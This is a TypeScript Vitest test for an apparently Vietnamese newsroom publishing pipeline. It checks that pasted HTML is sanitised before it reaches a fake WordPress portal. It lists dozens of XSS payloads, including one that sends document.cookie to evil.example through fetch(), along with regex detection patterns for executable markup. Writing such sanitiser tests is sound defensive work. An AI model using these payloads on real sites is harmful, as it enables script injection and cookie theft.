// XSS vectors pasted into an article (paste/import cleaning → save → sign → publish) never reach a
// portal in an executable form: no script, no event handler, no javascript:/vbscript:/non-image data: URL.
import { afterEach, describe, expect, it } from 'vitest';
import { htmlToBody } from '../../core/editor/body';
import { FakePortal } from '../../core/testing/fake-portal';
import { parseHtml } from '../adapters/html/parse-html';
import { SAMPLE_PROFILE } from '../sample/profile';
import { openWorkflowFixture, PASSWORD, type WorkflowFixture } from '../workflow/testing';

const VECTORS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">bấm</a>',
  '<a href="java&#x09;script:alert(1)">bấm</a>',
  '<a href=" JaVaScRiPt:alert(1)">bấm</a>',
  '<a href="vbscript:msgbox(1)">bấm</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm</a>',
  '<svg onload=alert(1)><circle r=5></circle></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>Gửi</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<p onclick="alert(1)">Nhấn vào đây</p>',
  '<p style="background:url(javascript:alert(1))">nền</p>',
  '<p style="behavior:url(x.htc)">IE</p>',
  '<style>@import "javascript:alert(1)";</style><p>kiểu</p>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">',
  '<img src=1 onerror="fetch(\'https://evil.example/\'+document.cookie)">',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">mã hóa</a>',
  '<a href="jav&#x0A;ascript:alert(1)">xuống dòng</a>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  // With a header row: a table without one is (rightly) refused by the accessibility checklist.
  '<table background="javascript:alert(1)"><tr><th>cột</th></tr><tr><td>ô</td></tr></table>',
  '<td onmouseover=alert(1)>ô</td>',
  '<marquee onstart=alert(1)>chạy</marquee>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<a href="#" onclick="alert(1)">neo</a>',
  '<div style="width: expression(alert(1))">biểu thức</div>',
  '<x-tag onclick=alert(1)>thẻ lạ</x-tag>',
  '<template><script>alert(1)</script></template>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>svg</text></a></svg>',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  // Last: parsed without scripting, an unbalanced noscript swallows what follows it.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
];

const EXECUTABLE = [/<script/i, /\son[a-z]+\s*=/i, /javascript:/i, /vbscript:/i, /data:(?!image\/(png|jpeg|gif|webp);)/i, /<iframe|<object|<embed|<svg|<math|<form|<style|<link|<meta|<base/i, /expression\(/i];

let f: WorkflowFixture;
afterEach(() => f.close());

describe('hostile content', () => {
  it(`none of ${VECTORS.length} XSS vectors pasted into a body reaches the portal executable`, async () => {
    const portal = new FakePortal();
    f = openWorkflowFixture({ connect: () => portal.connector() });
    f.app.services.profile.save(SAMPLE_PROFILE, '2020-01-01T00:00:00.000Z', f.users.qt);
    const target = f.app.services.publishing.addTarget({ name: 'Cổng', type: 'wordpress', config: { url: 'https://cong.example' } }, f.users.qt);
    const html = VECTORS.map((v, i) => `<p>Đoạn ${i + 1}:</p>${v}`).join('\n');
    const a = f.articleIn('cho_duyet', 'btv', { title: 'Bài có mã độc <script>alert(1)</script>', body: htmlToBody(html, parseHtml), category: 'Kinh tế' });
    expect((await f.call('workflow.act', { articleId: a.id, action: 'ky-duyet', password: PASSWORD }, f.users.tb)).ok).toBe(true);
    const queued = await f.call('publish.enqueue', { articleId: a.id, targetId: target.id, confirm: true }, f.users.btv);
    expect(queued.ok, JSON.stringify(queued)).toBe(true);
    await f.app.services.outbox.runOnce();
    const [item] = [...portal.items.values()];
    expect(item).toBeDefined();
    for (const pattern of EXECUTABLE) expect({ pattern: String(pattern), found: pattern.exec(item!.post.html)?.[0] ?? null }).toEqual({ pattern: String(pattern), found: null });
    // The title travels as text: the connector escapes it in its own format.
    expect(item!.post.title).toBe('Bài có mã độc <script>alert(1)</script>');
    const doc = parseHtml(item!.post.html);
    for (const el of doc.querySelectorAll('*')) {
      for (const attr of el.getAttributeNames()) expect(attr.startsWith('on')).toBe(false);
    }
    expect(item!.post.html).toContain(`Đoạn ${VECTORS.length}:`);
  });
});
